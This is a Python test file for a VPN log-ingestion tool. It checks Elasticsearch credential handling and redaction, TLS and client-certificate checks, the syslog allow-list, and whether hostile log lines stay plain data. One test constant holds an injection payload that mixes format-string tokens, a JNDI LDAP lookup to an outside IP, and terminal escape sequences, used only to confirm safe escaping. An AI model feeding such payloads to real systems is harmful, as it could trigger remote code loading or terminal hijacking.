"""Security without the big servers: Elasticsearch credentials and TLS (against small local HTTP(S)
servers that record what the client sends), the syslog receiver's TLS, client certificates and
allow-list over real sockets, and log lines treated as data (never a format string, never a terminal
command, never code).
"""

from __future__ import annotations

import ast
import asyncio
import base64
import http.server
import io
import json
import logging
import os
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from elastic_transport import TlsError

from streams.batch import LineBatch
from streams.commands.diagnose_text import printable, render
from streams.config import Settings
from streams.es_client import CredentialsError, EsConfig, redact, sync_client
from streams.ingest.syslog import Receiver, ReceiverConfig
from streams.pipeline import StreamPipeline
from tests.certs import Pki, make_pki

SECRET = "s3cr3t-Pa55-never-shown"
API_KEY = "VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw=="
GOLDEN = Path(__file__).resolve().parents[1] / "golden" / "diagnose" / "strongswan" / "auth-failed-initiator.log"


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> Pki:
    return make_pki(tmp_path_factory.mktemp("pki"))


# -- Elasticsearch client options -------------------------------------------------------------------------
def test_basic_auth_from_the_environment() -> None:
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES": "http://es:9200", "TUNNELSIGHT_ES_USER": "writer",
                             "TUNNELSIGHT_ES_PASSWORD": SECRET})
    assert cfg.auth == "basic"
    assert cfg.client_options()["basic_auth"] == ("writer", SECRET)
    assert "verify_certs" not in cfg.client_options()  # plain http: no TLS options at all


@pytest.mark.parametrize(("key", "sent"), [(API_KEY, API_KEY), ("my-id:" + SECRET, ("my-id", SECRET))])
def test_api_key_from_the_environment_wins_over_user_and_password(key: str, sent: object) -> None:
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES_API_KEY": key, "TUNNELSIGHT_ES_USER": "u",
                             "TUNNELSIGHT_ES_PASSWORD": "p"})
    options = cfg.client_options()
    assert cfg.auth == "api_key" and options["api_key"] == sent and "basic_auth" not in options


def test_credentials_file_and_environment_precedence(tmp_path: Path) -> None:
    creds = tmp_path / "creds"
    creds.write_text(f"# comment\nuser = writer\npassword='{SECRET}'\n\napi_key=\n")
    creds.chmod(0o600)
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES_CREDENTIALS_FILE": str(creds)})
    assert (cfg.user, cfg.password, cfg.auth) == ("writer", SECRET, "basic")
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES_CREDENTIALS_FILE": str(creds), "TUNNELSIGHT_ES_USER": "other"})
    assert (cfg.user, cfg.password) == ("other", SECRET)  # a variable beats the file


def test_credentials_file_problems_are_named_without_the_secret(tmp_path: Path,
                                                                 caplog: pytest.LogCaptureFixture) -> None:
    with pytest.raises(CredentialsError, match="cannot read"):
        EsConfig.from_env({"TUNNELSIGHT_ES_CREDENTIALS_FILE": str(tmp_path / "missing")})
    for i, content in enumerate((SECRET, API_KEY, f"pasword={SECRET}")):  # a bare secret, a base64 key, a typo
        bad = tmp_path / f"bad{i}"
        bad.write_text(f"# ok\n{content}\n")
        bad.chmod(0o600)
        with pytest.raises(CredentialsError) as err:
            EsConfig.from_env({"TUNNELSIGHT_ES_CREDENTIALS_FILE": str(bad)})
        assert "line 2" in str(err.value) and SECRET not in str(err.value) and API_KEY[:8] not in str(err.value)
    loose = tmp_path / "loose"
    loose.write_text(f"user=u\npassword={SECRET}\n")
    loose.chmod(0o644)
    with caplog.at_level(logging.WARNING):
        EsConfig.from_env({"TUNNELSIGHT_ES_CREDENTIALS_FILE": str(loose)})
    assert "readable by others" in caplog.text and SECRET not in caplog.text
    with pytest.raises(CredentialsError, match="no user"):
        EsConfig(password=SECRET).client_options()


def test_credentials_in_the_url_become_basic_auth_and_leave_the_url() -> None:
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES": f"https://writer:{SECRET}@es.example.net:9243/"})
    assert cfg.url == "https://es.example.net:9243/" and (cfg.user, cfg.password) == ("writer", SECRET)
    assert redact(f"https://w:{SECRET}@[::1]:9200") == "https://[::1]:9200"
    assert redact("http://es:9200") == "http://es:9200"


def test_tls_verification_is_on_by_default_and_off_only_when_asked(caplog: pytest.LogCaptureFixture) -> None:
    cfg = EsConfig.from_env({"TUNNELSIGHT_ES": "https://es:9243", "TUNNELSIGHT_ES_CA": "/etc/ca.pem"})
    assert cfg.client_options()["verify_certs"] is True and cfg.client_options()["ca_certs"] == "/etc/ca.pem"
    assert EsConfig.from_env({"TUNNELSIGHT_ES": "https://es:9243"}).client_options()["verify_certs"] is True
    off = EsConfig.from_env({"TUNNELSIGHT_ES": "https://es:9243", "TUNNELSIGHT_ES_VERIFY": "0"})
    assert off.client_options()["verify_certs"] is False
    with caplog.at_level(logging.WARNING):
        sync_client(off).close()
    assert "NOT verified" in caplog.text


def test_no_secret_in_repr_str_or_description() -> None:
    for cfg in (EsConfig(url="https://es:9243", user="writer", password=SECRET),
                EsConfig(api_key=SECRET), EsConfig.from_env({"TUNNELSIGHT_ES": f"http://u:{SECRET}@es:9200"}),
                Settings(es_api_key=SECRET)):
        for text in (repr(cfg), str(cfg), getattr(cfg, "describe", lambda: "")()):
            assert SECRET not in text, text


# -- what the client sends, to a local server ----------------------------------------------------------------
class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[dict[str, str]] = []

    def do_GET(self) -> None:
        type(self).seen.append({k.lower(): v for k, v in self.headers.items()})
        body = json.dumps({"cluster_name": "fake", "status": "green"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("X-Elastic-Product", "Elasticsearch")  # the client refuses other servers
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@contextmanager
def fake_es(pki: Pki | None = None) -> Iterator[tuple[str, list[dict[str, str]]]]:
    handler = type("Recorder", (_Recorder,), {"seen": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    scheme = "http"
    if pki is not None:
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(pki.server_cert, pki.server_key)
        server.socket = ctx.wrap_socket(server.socket, server_side=True)
        scheme = "https"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"{scheme}://127.0.0.1:{server.server_address[1]}", handler.seen
    finally:
        server.shutdown()
        server.server_close()


def test_the_client_sends_the_credentials_it_was_given_and_logs_none(caplog: pytest.LogCaptureFixture) -> None:
    with fake_es() as (url, seen), caplog.at_level(logging.DEBUG):
        for env in ({"TUNNELSIGHT_ES_USER": "writer", "TUNNELSIGHT_ES_PASSWORD": SECRET},
                    {"TUNNELSIGHT_ES_API_KEY": API_KEY}, {"TUNNELSIGHT_ES_API_KEY": f"id1:{SECRET}"}, {}):
            with sync_client(EsConfig.from_env({"TUNNELSIGHT_ES": url, **env})) as es:
                assert es.cluster.health()["status"] == "green"
                assert SECRET not in repr(es)
    auth = [h.get("authorization") for h in seen]
    assert auth == ["Basic " + base64.b64encode(f"writer:{SECRET}".encode()).decode(), "ApiKey " + API_KEY,
                    "ApiKey " + base64.b64encode(f"id1:{SECRET}".encode()).decode(), None]
    logged = caplog.text + "".join(str(r.args) for r in caplog.records)
    assert SECRET not in logged and API_KEY not in logged


def test_https_verifies_the_server_certificate_by_default(pki: Pki) -> None:
    with fake_es(pki) as (url, seen):
        with sync_client(EsConfig.from_env({"TUNNELSIGHT_ES": url}), max_retries=0) as es, \
                pytest.raises(TlsError):
            es.cluster.health()  # the system store does not know this CA
        assert not seen  # refused before any request, so no credentials left the process
        with sync_client(EsConfig.from_env({"TUNNELSIGHT_ES": url, "TUNNELSIGHT_ES_CA": str(pki.ca)})) as es:
            assert es.cluster.health()["status"] == "green"
        with sync_client(EsConfig.from_env({"TUNNELSIGHT_ES": url, "TUNNELSIGHT_ES_VERIFY": "0"})) as es:
            assert es.cluster.health()["status"] == "green"


def test_report_does_not_print_credentials_from_the_url() -> None:
    port = _closed_port()
    proc = subprocess.run([sys.executable, "-m", "streams.cli", "report", "--es", f"http://u:{SECRET}@127.0.0.1:{port}"],
                          capture_output=True, text=True, timeout=60, check=False,
                          env={**os.environ, "TUNNELSIGHT_ES_CREDENTIALS_FILE": ""})
    assert proc.returncode == 2 and "cannot query Elasticsearch" in proc.stderr
    assert SECRET not in proc.stderr + proc.stdout


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# -- the syslog receiver ---------------------------------------------------------------------------------------
LINE = "<30>Feb  5 21:29:53 gw1 charon[812]: 14[IKE] <c|1> IDr payload missing"


def test_the_receiver_binds_to_loopback_unless_told_otherwise() -> None:
    from streams.cli import build_parser

    assert ReceiverConfig().host == "127.0.0.1"
    assert build_parser().parse_args(["ingest", "syslog"]).host == "127.0.0.1"

    async def run() -> str:
        r = Receiver(ReceiverConfig(udp_port=0, tcp_port=0), _sink([]))
        await r.start()
        try:
            return str(r._servers[0].sockets[0].getsockname()[0])  # the bound address itself
        finally:
            await r.stop()

    assert asyncio.run(run()) == "127.0.0.1"


def _sink(got: list[LineBatch]):  # type: ignore[no-untyped-def]
    async def emit(batch: LineBatch) -> None:
        got.append(batch)

    return emit


def _client_ctx(pki: Pki, cert: tuple[Path, Path] | None) -> ssl.SSLContext:
    ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=str(pki.ca))
    if cert:
        ctx.load_cert_chain(*cert)
    return ctx


async def _tls_send(port: int, ctx: ssl.SSLContext | None, payload: bytes) -> str:
    """Send over TLS (or plain TCP): "open" when the receiver kept the connection, "closed" when it
    hung up, or the error that stopped us."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            "127.0.0.1", port, ssl=ctx, server_hostname="localhost" if ctx else None), timeout=10)
        writer.write(payload)
        await writer.drain()
        try:  # TLS 1.3: a refused client certificate shows on the first read, after our write
            data = await asyncio.wait_for(reader.read(1), timeout=0.5)
        except TimeoutError:
            writer.close()
            return "open"
        writer.close()
        return "closed" if not data else "answered"
    except (ssl.SSLError, ConnectionError, OSError) as exc:
        return type(exc).__name__


def test_tls_with_client_certificates_lets_in_only_clients_the_ca_signed(pki: Pki) -> None:
    async def run() -> tuple[dict[str, str], list[str], dict[str, int]]:
        got: list[LineBatch] = []
        cfg = ReceiverConfig(udp_port=None, tcp_port=0, tls_cert=str(pki.server_cert), tls_key=str(pki.server_key),
                             tls_client_ca=str(pki.ca))
        r = Receiver(cfg, _sink(got), linger_s=0.005)
        await r.start()
        port = r.bound["tcp"]
        outcome = {
            "signed": await _tls_send(port, _client_ctx(pki, (pki.client_cert, pki.client_key)),
                                      f"{LINE} signed\n".encode()),
            "no certificate": await _tls_send(port, _client_ctx(pki, None), f"{LINE} anonymous\n".encode()),
            "other CA": await _tls_send(port, _client_ctx(pki, (pki.rogue_cert, pki.rogue_key)),
                                        f"{LINE} rogue\n".encode()),
            "plain TCP": await _tls_send(port, None, f"{LINE} plain\n".encode()),
        }
        await asyncio.sleep(0.1)
        await r.stop()
        return outcome, [line for b in got for line in b.lines], dict(r.counters)

    outcome, lines, counters = asyncio.run(run())
    assert lines == [f"{LINE} signed"], (outcome, lines)
    assert outcome["signed"] == "open"
    assert all(outcome[k] != "open" for k in ("no certificate", "other CA", "plain TCP")), outcome
    assert counters["connections"] == 1  # the refused ones never got past the TLS handshake


def test_tls_without_client_ca_serves_any_tls_client_but_not_plain_tcp(pki: Pki) -> None:
    async def run() -> list[str]:
        got: list[LineBatch] = []
        cfg = ReceiverConfig(udp_port=None, tcp_port=0, tls_cert=str(pki.server_cert), tls_key=str(pki.server_key))
        r = Receiver(cfg, _sink(got), linger_s=0.005)
        await r.start()
        await _tls_send(r.bound["tcp"], _client_ctx(pki, None), f"{LINE} tls\n".encode())
        await _tls_send(r.bound["tcp"], None, f"{LINE} plain\n".encode())
        await asyncio.sleep(0.1)
        await r.stop()
        return [line for b in got for line in b.lines]

    assert asyncio.run(run()) == [f"{LINE} tls"]


def test_allow_list_over_real_sockets() -> None:
    import ipaddress

    async def run() -> tuple[list[LineBatch], dict[str, int]]:
        got: list[LineBatch] = []
        cfg = ReceiverConfig(udp_port=0, tcp_port=0, allow=[ipaddress.ip_network("127.0.0.2/32")])
        r = Receiver(cfg, _sink(got), linger_s=0.005)
        await r.start()
        for src in ("127.0.0.1", "127.0.0.2"):
            _, writer = await asyncio.open_connection("127.0.0.1", r.bound["tcp"], local_addr=(src, 0))
            writer.write(f"{LINE} tcp from {src}\n".encode())
            await writer.drain()
            writer.close()
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.bind((src, 0))
                s.sendto(f"{LINE} udp from {src}".encode(), ("127.0.0.1", r.bound["udp"]))
        await asyncio.sleep(0.2)
        await r.stop()
        return got, dict(r.counters)

    got, counters = asyncio.run(run())
    assert sorted(line for b in got for line in b.lines) == [f"{LINE} tcp from 127.0.0.2", f"{LINE} udp from 127.0.0.2"]
    assert all(b.source == "127.0.0.2" for b in got)
    assert counters["refused_not_allowed"] == 2


# -- log lines are data -----------------------------------------------------------------------------------------
HOSTILE = "shop%s%n{0}${jndi:ldap://198.51.100.9/a}\x1b[2J\x1b]0;pwned\x07\u202e-17"


def _hostile_log(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.log"
    path.write_text(GOLDEN.read_text().replace("shop-17", HOSTILE))
    return path


def test_the_text_report_escapes_terminal_sequences_and_keeps_format_strings_literal(tmp_path: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "streams.cli", "diagnose", "--year", "2026", "--format", "text",
                           str(_hostile_log(tmp_path))], capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "FAILED" in out and "evidence:" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e\r"), "a control character reached the terminal"
    assert r"shop%s%n{0}${jndi:ldap://198.51.100.9/a}\x1b[2J\x1b]0;pwned\x07\u202e-17" in out
    evidence = [line for line in out.splitlines() if line.strip().startswith("|")]
    assert evidence and all("%s%n{0}" in line for line in evidence)


def test_printable_keeps_text_and_escapes_only_controls() -> None:
    assert printable("a\tb\nc %s {0} é ü 漢") == "a\tb\nc %s {0} é ü 漢"
    assert printable("\x1b[2J\x07\r\x00\x9b\u202e") == r"\x1b[2J\x07\r\x00\x9b\u202e"
    buf = io.StringIO()
    render([], {"lines": 1}, buf)
    assert buf.getvalue().endswith("1 lines read, 0 not understood\n")


def test_the_stream_carries_hostile_lines_as_data(tmp_path: Path) -> None:
    """Through the worker's own code: the diagnosis holds the bytes of the line, as JSON data."""
    lines = _hostile_log(tmp_path).read_text().splitlines()
    batch = LineBatch(gateway="gw-ams-01", opts={"year": 2026})
    for line in lines:
        batch.add(line, 1_770_325_200.0)
    pipeline = StreamPipeline(Settings())
    table: dict[bytes, bytes] = {}
    out = pipeline.process_record(batch.encode(), 0, 0, table)
    out2 = pipeline.process_record(LineBatch(gateway="gw-ams-01", opts={"year": 2026, "flush": True}).encode(),
                                   0, 1, table)
    docs = out.diagnoses + out2.diagnoses
    failed = [d for d in docs if d["event"]["outcome"] == "failure"]
    assert failed and failed[0]["vpn"]["connection"] == HOSTILE.replace("\u202e", "\u202e")
    assert any(HOSTILE in line for line in failed[0]["vpn"]["evidence"])


def test_no_log_data_can_become_a_format_string_or_code() -> None:
    """Static check of streams/: logging format strings are literals (data goes in the arguments),
    no eval, and exec only where the pattern tables are compiled at import (never from a line)."""
    levels = {"debug", "info", "warning", "warn", "error", "exception", "critical", "log"}
    problems = []
    root = Path(__file__).resolve().parents[2] / "streams"
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root.parent).as_posix()
        for node in ast.walk(ast.parse(path.read_text(), filename=rel)):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if isinstance(func, ast.Name) and func.id in ("eval", "exec", "compile", "__import__") and not (
                    rel == "streams/parse/patterns.py" and func.id == "exec"):
                problems.append(f"{rel}:{node.lineno} {func.id}()")
            if isinstance(func, ast.Attribute) and func.attr in levels and isinstance(func.value, ast.Name) \
                    and func.value.id in ("log", "logger", "logging"):
                args = node.args[1:] if func.attr == "log" else node.args
                if not args or not (isinstance(args[0], ast.Constant) and isinstance(args[0].value, str)):
                    problems.append(f"{rel}:{node.lineno} log format is not a literal: {ast.unparse(node)[:80]}")
    assert not problems, "\n".join(problems)
